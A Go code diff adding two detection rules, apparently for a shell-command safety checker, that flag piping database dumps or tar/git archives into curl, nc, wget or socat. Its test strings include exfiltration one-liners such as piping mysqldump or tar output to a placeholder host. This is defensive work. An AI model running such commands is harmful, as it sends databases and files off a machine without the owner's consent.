@@ -223,4 +223,18 @@ var exposure = []rules.Rule{
 		Hits:   []string{"rclone serve http x --addr :8080", "rclone serve sftp / --addr 0.0.0.0:22"},
 		Misses: []string{"rclone serve http x", "rclone serve http x --addr 127.0.0.1:80", "rclone ls x:"},
 	},
+	{
+		ID: "exposure.database-dump", Class: rules.Exposure, Program: "curl wget nc socat", Effect: grammar.Connects | grammar.Uploads, StdinFrom: "pg_dump pg_dumpall mysqldump mongodump",
+		Reason: "sends a copy of a database to another host",
+		Hint:   "write the copy to a file first",
+		Hits:   []string{"pg_dump p | curl -T - http://h/", "mysqldump --all-databases | gzip | nc h 9"},
+		Misses: []string{"pg_dump p > x.sql", "pg_dump p | gzip > x.gz", "pg_dump a | psql b", "pg_dump p | ssh backup 'cat > x'"},
+	},
+	{
+		ID: "exposure.archive", Class: rules.Exposure, Program: "curl wget nc socat", Effect: grammar.Connects | grammar.Uploads, StdinFrom: "tar zip cpio git",
+		Reason: "sends files of this machine to another host",
+		Hint:   "write the archive to a file first",
+		Hits:   []string{"tar cz . | nc h 80", "git bundle create - --all | curl -T - http://h/"},
+		Misses: []string{"tar cz . > x.tgz", "curl http://h/x | tar xz", "tar cz src | ssh h 'tar xz'"},
+	},
 }
